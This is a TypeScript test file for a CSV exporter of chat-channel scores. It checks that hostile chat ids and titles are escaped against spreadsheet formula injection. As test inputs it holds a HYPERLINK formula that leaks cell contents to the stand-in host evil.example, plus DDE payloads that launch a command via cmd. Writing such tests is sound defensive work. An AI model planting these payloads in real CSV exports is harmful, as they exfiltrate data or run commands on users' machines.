import { describe, expect, it } from '@jest/globals';
import type { ChannelScore } from '@solana-hub/contracts';
import { channelsCsv } from './channel-csv.js';

// A chat's id and title are whatever its source sent: the CSV must not hand a spreadsheet a
// formula to run, whichever cell it hides in, while ids and figures stay numbers.

/** A row of the Channels answer with these id and title, its figures made up. */
function channel(chatId: string, title: string | null): ChannelScore {
  return {
    chat_id: chatId,
    chat_title: title,
    calls: 3,
    hit_rate_2x: 0.5,
    hit_rate_5x: null,
    median_multiple: 2.25,
    best_multiple: 4,
    median_minutes_to_2x: null,
    fell_half_share: 0,
    first_caller_share: 1,
    median_minutes_behind_first: 2.5,
  };
}

/** The first two cells of each data row, as written. */
function idAndTitleCells(csv: string): string[] {
  return csv
    .split('\r\n')
    .slice(1, -1)
    .map((line) => /^("(?:[^"]|"")*"|[^,]*),("(?:[^"]|"")*"|[^,]*),/.exec(line)?.slice(1, 3).join(' | ') ?? line);
}

describe('the Channels CSV', () => {
  it('writes a hostile chat id or title as quoted text that starts with a quote mark', () => {
    const csv = channelsCsv([
      channel('=HYPERLINK("http://evil.example/?x="&A1,"Open")', 'Alpha'),
      channel('@SUM(1+1)*cmd|" /C calc"!A0', '+1+1'),
      channel("-1+cmd|' /C calc'!A0", '-2+3'),
      channel('+41', '\t=1+1'),
      channel('-1001', '\r=1+1'),
      channel('-1002', '=HYPERLINK("x"), Beta'),
      channel('-1003', '@everyone'),
    ]);
    expect(idAndTitleCells(csv)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")" | Alpha`,
      `"'@SUM(1+1)*cmd|"" /C calc""!A0" | "'+1+1"`,
      `"'-1+cmd|' /C calc'!A0" | "'-2+3"`,
      `"'+41" | "'\t=1+1"`,
      `-1001 | "'\r=1+1"`,
      `-1002 | "'=HYPERLINK(""x""), Beta"`,
      `-1003 | "'@everyone"`,
    ]);
  });

  it('leaves numbers as numbers: negative chat ids, figures, a title that is a number', () => {
    const csv = channelsCsv([channel('-1001234567890', '-5'), channel('777000', null)]);
    expect(csv.split('\r\n')).toEqual([
      'chat_id,chat_title,calls,hit_rate_2x,hit_rate_5x,median_multiple,best_multiple,median_minutes_to_2x,fell_half_share,first_caller_share,median_minutes_behind_first',
      '-1001234567890,-5,3,0.5,,2.25,4,,0,1,2.5',
      '777000,,3,0.5,,2.25,4,,0,1,2.5',
      '',
    ]);
  });

  it('quotes plain text only where CSV needs it', () => {
    expect(idAndTitleCells(channelsCsv([channel('@alpha_calls', 'Alpha, "the" calls'), channel('alpha', 'Alpha Calls')]))).toEqual([
      `"'@alpha_calls" | "Alpha, ""the"" calls"`,
      'alpha | Alpha Calls',
    ]);
  });
});
